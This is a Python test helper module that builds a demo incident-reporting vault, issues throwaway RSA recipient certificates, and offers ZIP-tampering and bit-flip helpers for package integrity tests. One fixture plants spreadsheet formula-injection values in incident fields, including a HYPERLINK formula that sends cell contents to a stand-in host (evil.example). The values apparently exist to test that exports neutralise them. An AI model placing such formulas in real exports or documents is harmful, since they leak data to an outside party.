"""Shared by the package tests: a demo vault with a ready package, recipient certificates, ZIP surgery."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from opal_desktop.incidents.demo import DemoResult, build_demo
from opal_desktop.packages import store
from opal_desktop.packages.model import Grading, PackageDraft, Submitter
from opal_desktop.vault import keyfile
from opal_desktop.vault.vault import Vault

PASSWORD = "demo password long"


@dataclass(frozen=True)
class Demo:
    demo: DemoResult
    package: str  # a ready package built from the first series' incidents
    cert_pem: Path  # the vault's signing certificate


def make_demo(folder: Path) -> Demo:
    keyfile.DEFAULT_KDF = keyfile.KdfParams(8 * 1024, 1, 1)
    try:
        demo = build_demo(folder / "vault", incidents=80, seed=11, password=PASSWORD)
    finally:
        keyfile.DEFAULT_KDF = keyfile.KdfParams()
    vault = Vault.open(demo.folder, "manager", PASSWORD)
    try:
        from opal_desktop.incidents import records
        from opal_desktop.vault.signing import certificate_pem

        refs = list(demo.series[0].incident_references)
        incident = records.get(vault, refs[0])
        incident.narrative = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        incident.location = "+44 aisle"
        incident.witnesses = "@SUM(1+1)"
        records.save(vault, incident)
        package = store.create_package(vault, PackageDraft(
            title="Grey Audi spirits team", summary="Two males targeting spirits.", incident_references=refs,
            grading=Grading("2", "B", "C", "Not to be shared outside policing."), legal_basis="DPA 2018 Sch 1 para 10",
            submitter=Submitter("Alex Admin", "Regional LP manager", "07700 900123", "Northern Grocers Ltd (DEMO)"),
        ))  # fmt: skip
        cert = folder / "sender.pem"
        cert.write_text(certificate_pem(vault))
    finally:
        vault.close()
    return Demo(demo, package.reference, cert)


def recipient(folder: Path, name: str) -> tuple[Path, Path]:
    """An RSA-2048 encryption certificate and its key, as PEM files."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now - timedelta(minutes=1))
        .not_valid_after(now + timedelta(days=30))
        .add_extension(x509.KeyUsage(digital_signature=False, content_commitment=False, key_encipherment=True,
                                     data_encipherment=False, key_agreement=False, key_cert_sign=False,
                                     crl_sign=False, encipher_only=False, decipher_only=False), critical=True)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    cert_path, key_path = folder / f"{name}.pem", folder / f"{name}.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))  # fmt: skip
    return cert_path, key_path


Change = Callable[
    [str, bytes], tuple[str, bytes] | None
]  # (name, data) -> new (name, data), or None to drop


def rewrite(
    source: Path, target: Path, change: Change, add: dict[str, bytes] | None = None
) -> Path:
    """A copy of the ZIP with entries changed, renamed, dropped or added (as an attacker would)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            changed = change(info.filename, old.read(info))
            if changed is not None:
                new.writestr(
                    zipfile.ZipInfo(changed[0], info.date_time), changed[1], info.compress_type
                )
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return target


def flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1 :]
